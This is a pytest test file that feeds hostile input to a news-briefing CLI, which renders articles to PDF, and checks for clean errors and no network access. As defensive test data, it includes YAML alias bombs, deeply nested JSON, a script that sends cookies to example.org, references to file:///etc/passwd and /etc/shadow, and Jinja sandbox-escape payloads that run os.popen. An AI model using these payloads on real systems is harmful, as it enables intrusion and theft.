"""Hostile and broken input: clear one-line errors, no tracebacks, no output, no network.

Each case runs the real CLI in-process. A network spy makes any socket connection fail the
test, and a fetcher spy records every URL WeasyPrint asks for.
"""

from __future__ import annotations

import os
import socket
import subprocess
from typing import TYPE_CHECKING, Any

import pytest
from pypdf import PdfReader

from briefing import cli, render

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

GOOD = "Der Bundestag hat am Donnerstag den Haushalt beschlossen. Die Opposition kritisierte das.\n"


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """Any attempt to open a network connection is recorded and refused."""
    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(args)
        raise OSError("network access is not allowed in briefing tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert attempts == [], f"network access attempted: {attempts}"


@pytest.fixture
def fetched(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """URLs the renderer fetched (a spy on the restricted fetcher)."""
    urls: list[str] = []
    _, _, fetcher = render._weasy()  # the spy wraps the real fetcher
    real_fetch = fetcher.fetch

    def spy(url: str, headers: Any = None) -> Any:
        urls.append(url)
        return real_fetch(url, headers)

    monkeypatch.setattr(fetcher, "fetch", spy)
    return urls


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_line_error(code: int, expected: int, err: str, folder: Path) -> None:
    assert code == expected, err
    assert err.startswith("briefing: error:"), err
    assert len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err
    assert not [
        p for p in folder.iterdir() if p.suffix in {".pdf", ".html", ".tmp"} or p.name.endswith(".tmp")
    ]


@pytest.mark.parametrize(
    ("name", "data", "code", "needle"),
    [
        ("empty.txt", b"", 3, "empty"),
        ("whitespace.txt", b" \n\t\n\r\n   ", 3, "empty"),
        ("binary.txt", bytes(range(256)) * 4, 3, "binary"),
        ("nul.txt", b"Der Text\x00mit NUL-Bytes.", 3, "binary"),
        ("five-mb.txt", b"Der Bundestag tagt. " * 262_144, 3, "limit"),
        (
            "bomb.md",
            (
                b"---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
                b"title: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n---\nText.\n"
            ),
            4,
            "aliases",
        ),
        ("types.md", b"---\ntitle: [1, 2]\n---\nText.\n", 4, "title"),
        ("baddate.md", b"---\ndate: 2023-02-30\n---\nText.\n", 4, "date"),
        ("words.md", b"---\ndate: morgen\n---\nText.\n", 4, "date"),
        ("notmapping.md", b"---\n- 1\n- 2\n---\nText.\n", 4, "mapping"),
        ("broken.md", b'---\ntitle: "unterminated\n---\nText.\n', 4, "YAML"),
        ("onlyfront.md", b"---\ntitle: Nur Kopf\n---\n\n\n", 3, "empty"),
    ],
)
def test_hostile_input_bad_files_fail_cleanly(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, name: str, data: bytes, code: int, needle: str
) -> None:
    source = tmp_path / name
    source.write_bytes(data)
    got, out, err = run(capsys, "make", str(source), "-o", str(tmp_path / "out.pdf"))
    assert_one_line_error(got, code, err, tmp_path)
    assert needle in err
    assert out == ""


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["--date", "2023-02-30"], 2),
        (["--date", "gestern"], 2),
        (["--date", ""], 2),
        (["--paper", "A0"], 2),
        (["--max-bytes", "0"], 2),
        (["--summary-points", "0"], 2),
    ],
)
def test_hostile_input_bad_options_are_usage_errors(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, args: list[str], code: int
) -> None:
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    got, _, err = run(capsys, "make", str(source), "-o", str(tmp_path / "out.pdf"), *args)
    assert got == code
    assert len(err.strip().splitlines()) == 1, err
    assert not (tmp_path / "out.pdf").exists()


def test_hostile_input_output_folder_missing(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    got, _, err = run(capsys, "make", str(source), "-o", str(tmp_path / "nope" / "out.pdf"))
    assert_one_line_error(got, 7, err, tmp_path)


def test_hostile_input_output_folder_not_writable(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    # /proc refuses new files even for root; a chmod-ed folder would not stop root
    got, _, err = run(capsys, "make", str(source), "-o", "/proc/briefing-out.pdf", "--format", "html")
    assert_one_line_error(got, 7, err, tmp_path)
    if os.geteuid() != 0:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
        got, _, err = run(capsys, "make", str(source), "-o", str(locked / "out.pdf"))
        assert_one_line_error(got, 7, err, locked)


def test_hostile_input_failed_render_keeps_previous_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefing.errors import RenderError

    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    target = tmp_path / "out.pdf"
    target.write_bytes(b"%PDF-previous")

    def broken(*args: Any, **kwargs: Any) -> tuple[bytes, int]:
        raise RenderError("layout exploded")

    monkeypatch.setattr(render, "pdf", broken)
    got, _, err = run(capsys, "make", str(source), "-o", str(target))
    assert got == 6
    assert "layout exploded" in err
    assert target.read_bytes() == b"%PDF-previous"
    assert not list(tmp_path.glob(".*.tmp"))


@pytest.mark.parametrize(
    ("text", "must_show"),
    [
        ("Ein Test mit {{ 7*7 }} und {% raw %} sowie {# Kommentar #} im Artikel.\n", "{{ 7*7 }}"),
        (
            "Die Rede war <script>alert('x')</script> und <img src=\"http://example.org/x.png\"> zu sehen.\n",
            "<script>alert",
        ),
        (
            'Sie zitierte url(http://example.org/a.css) und @import url("file:///etc/passwd"); im Text.\n',
            "file:///etc/passwd",
        ),
        ('Er sagte: „Wir kommen. Sie sagte »nein und ‚doch und "vielleicht. Ende.\n', "vielleicht"),
        ("مرحبا بالعالم. Der Minister 🙂 sprach auf Arabisch: „שלום“ – und lachte 😂.\n", "Minister"),
        ("Café Ümlaut in Köln, Straße \u00adweiche Trennung und \u200bNullbreite.\n", "Köln"),
    ],
)
def test_hostile_input_odd_articles_render_verbatim_and_fetch_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str], text: str, must_show: str
) -> None:
    source = tmp_path / "a.txt"
    source.write_text(text, encoding="utf-8")
    target = tmp_path / "out.pdf"
    got, out, err = run(capsys, "make", str(source), "-o", str(target), "--date", "2024-05-02")
    assert got == 0, err
    assert str(target) in out
    page_text = subprocess.run(
        ["pdftotext", str(target), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert len(PdfReader(target).pages) >= 1
    assert must_show.replace(" ", "") in page_text.replace(" ", "").replace("\n", "")
    fonts_and_templates = (render._folder("fonts").as_uri(), render._folder("templates").as_uri())
    assert all(url.startswith(fonts_and_templates) for url in fetched), fetched


def _offset_items(data: Any) -> Iterator[dict[str, Any]]:
    """Every dict in ``data`` with ``start``/``end`` offsets and its ``text``."""
    if isinstance(data, dict):
        if isinstance(data.get("start"), int) and isinstance(data.get("text"), str):
            yield data
        for key, value in data.items():
            if key != "text":
                yield from _offset_items(value)
    elif isinstance(data, list):
        for value in data:
            yield from _offset_items(value)


def test_hostile_input_one_long_line_is_analysed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    import json

    source = tmp_path / "long.txt"
    # 30 KB: the growth to 1 MB is test_limits.py's and bench_hostile.py's
    words = ("Der Präsident sagte am Montag in Berlin, dass alles gut werde, und ") * 480
    text = words[:30_000]
    source.write_text(text, encoding="utf-8")
    assert "\n" not in source.read_text(encoding="utf-8")
    got, out, err = run(capsys, "make", str(source), "--format", "json", "--date", "2024-05-02")
    assert got == 0, err
    data = json.loads(out)
    assert data["text"] == text
    assert "summary" in data
    items = list(_offset_items(data))
    assert all(text[item["start"] : item["end"]] == item["text"] for item in items)
    # analysed to the end of the line, not cut short: the last "Montag" and "Berlin" are found
    assert max(t["end"] for t in data["temporal_expressions"]) > len(text) - len(words) // 480
    berlin = next(e for e in data["entities"] if e["name"] == "Berlin")
    assert len(berlin["mentions"]) == text.count("Berlin")


def test_hostile_input_fetcher_refuses_outside_urls() -> None:
    _, _, fetcher = render._weasy()
    for url in (
        "http://example.org/x.css",
        "https://example.org/a.png",
        "file:///etc/passwd",
        "data:text/css,body{}",
        "ftp://example.org/x",
    ):
        with pytest.raises(ValueError, match="does not fetch"):
            fetcher.fetch(url)


HOSTILE_HTML = """<html><head><title>Streit um den Haushalt</title>
<style>@import url(http://example.org/evil.css); body {{ background: url(file:///etc/passwd) }}</style>
<script>fetch('http://example.org/steal?c=' + document.cookie)</script>
<link rel="stylesheet" href="http://example.org/x.css"></head>
<body><article><h1>Streit um den Haushalt</h1>
<p>Der Finanzminister sagte am Montag in Berlin, dass die Lage ernst sei und die Regierung handeln werde.
Die Koalition will den Haushalt bis Ende des Monats beschließen, erklärte ein Sprecher.</p>
<iframe src="http://example.org/frame"></iframe><img src="http://example.org/pixel.png" alt="">
<img src="file:///etc/passwd" alt=""><object data="file:///etc/shadow"></object>
<p>Die Opposition kritisierte das Vorgehen scharf und forderte eine Untersuchung im Bundestag.
{payload}</p>
<p style="background: url(http://example.org/bg.png)">Weitere Gespräche sind für Dienstag geplant,
teilte das Ministerium mit. Eine Einigung gilt als schwierig.</p>
</article></body></html>
"""


@pytest.mark.parametrize(
    "payload",
    [
        "Ein Leser schrieb: {{ 7*7 }} und {% raw %}.",
        "Im Text steht &lt;script&gt;alert(1)&lt;/script&gt; als Beispiel.",
        "Die Adresse file:///etc/passwd wurde zitiert.",
    ],
)
def test_hostile_input_html_page_is_text_only(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str], payload: str
) -> None:
    source = tmp_path / "seite.html"
    source.write_text(HOSTILE_HTML.format(payload=payload), encoding="utf-8")
    target = tmp_path / "out.pdf"
    got, _, err = run(capsys, "make", str(source), "-o", str(target), "--date", "2024-05-06")
    assert got == 0, err
    text = subprocess.run(["pdftotext", str(target), "-"], capture_output=True, text=True, check=True).stdout
    flat = " ".join(text.split())
    assert "Finanzminister" in flat
    assert "fetch(" not in flat
    assert "passwd" not in flat or "file:///etc/passwd wurde" in flat
    if "7*7" in payload:
        assert "{{ 7*7 }}" in flat
        assert "49" not in flat
    allowed = (render._folder("fonts").as_uri(), render._folder("templates").as_uri())
    assert all(url.startswith(allowed) for url in fetched), fetched


@pytest.mark.parametrize(
    ("name", "data", "command"),
    [
        ("deep.json", "[" * 100_000 + "]" * 100_000, "make"),
        ("deep-text.json", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "make"),
        ("deep-doc.json", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "render"),
        ("deep-doc.yaml", "a: " + "[" * 100_000 + "]" * 100_000, "render"),
        ("deep.md", "---\ntitle: " + "[" * 50_000 + "]" * 50_000 + "\n---\nText.\n", "make"),
        ("bomb.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "render"),
    ],
)
def test_hostile_input_deep_or_aliased_documents_fail_cleanly(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, name: str, data: str, command: str
) -> None:
    source = tmp_path / name
    source.write_text(data, encoding="utf-8")
    got, _, err = run(capsys, command, str(source), "-o", str(tmp_path / "out.pdf"))
    assert_one_line_error(got, 4, err, tmp_path)


def _template_folder(tmp_path: Path, template: str) -> Path:
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    (folder / "briefing.html.j2").write_text(template, encoding="utf-8")
    return folder


def test_hostile_input_own_templates_render_with_their_logo(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str]
) -> None:
    from conftest import ROOT

    package = (ROOT / "templates" / "briefing.html.j2").read_text(encoding="utf-8")
    own = package.replace(
        '<p class="kicker">', '<img src="logo.png" alt="Logo"><p class="kicker">Musterzeitung · '
    )
    folder = _template_folder(tmp_path, own)
    (folder / "logo.png").write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478"
            "9c63606060000000040001f61738550000000049454e44ae426082"
        )
    )
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    target = tmp_path / "out.pdf"
    got, _, err = run(capsys, "make", str(source), "-o", str(target), "--templates", str(folder))
    assert got == 0, err
    assert "MUSTERZEITUNG" in PdfReader(target).pages[0].extract_text()  # the kicker is set in capitals
    assert (folder / "logo.png").resolve().as_uri() in fetched


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ summary.append('x') }}",
    ],
)
def test_hostile_input_own_templates_are_sandboxed(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
) -> None:
    folder = _template_folder(tmp_path, f"<html><body>{attack}</body></html>")
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    got, _, err = run(
        capsys, "make", str(source), "-o", str(tmp_path / "out.pdf"), "--templates", str(folder)
    )
    assert_one_line_error(got, 6, err, tmp_path)


def test_hostile_input_own_templates_cannot_fetch_other_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str]
) -> None:
    folder = _template_folder(
        tmp_path,
        '<html><body><img src="file:///etc/passwd"><img src="../geheim.png"><p>{{ title }}</p></body></html>',
    )
    (tmp_path / "geheim.png").write_bytes(b"not to be read")
    source = tmp_path / "a.txt"
    source.write_text(GOOD, encoding="utf-8")
    got, _, err = run(
        capsys, "make", str(source), "-o", str(tmp_path / "out.pdf"), "--templates", str(folder), "-q"
    )
    assert got == 0, err
    served = [u for u in fetched if "passwd" in u or "geheim" in u]
    assert served  # asked for …
    for url in served:
        _, _, fetcher = render._weasy()
        with pytest.raises(ValueError, match="does not fetch"):
            fetcher.fetch(url)  # … and refused


def test_hostile_input_own_templates_reach_handouts_with_their_logo(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str]
) -> None:
    from conftest import ROOT

    package = (ROOT / "templates" / "briefing.html.j2").read_text(encoding="utf-8")
    folder = _template_folder(
        tmp_path, package.replace('<p class="kicker">', '<img src="logo.png" alt="Logo"><p class="kicker">')
    )
    (folder / "logo.png").write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478"
            "9c63606060000000040001f61738550000000049454e44ae426082"
        )
    )
    (folder / "briefing.css").write_text(
        (ROOT / "templates" / "briefing.css").read_text(encoding="utf-8")
        + "\n.cover h1 { color: #123456; }\n",
        encoding="utf-8",
    )
    sources = []
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text(GOOD, encoding="utf-8")
        sources.append(str(tmp_path / name))
    target = tmp_path / "mappe.pdf"
    got, _, err = run(
        capsys, "make", *sources, "-o", str(target), "--templates", str(folder), "--format", "html"
    )
    assert got == 0, err
    assert "#123456" in target.read_text(encoding="utf-8")  # the newsroom's stylesheet in the handout
    target = tmp_path / "mappe.pdf"
    got, _, err = run(capsys, "make", *sources, "-o", str(target), "--templates", str(folder))
    assert got == 0, err
    assert (folder / "logo.png").resolve().as_uri() in fetched  # the logo loads in the handout PDF
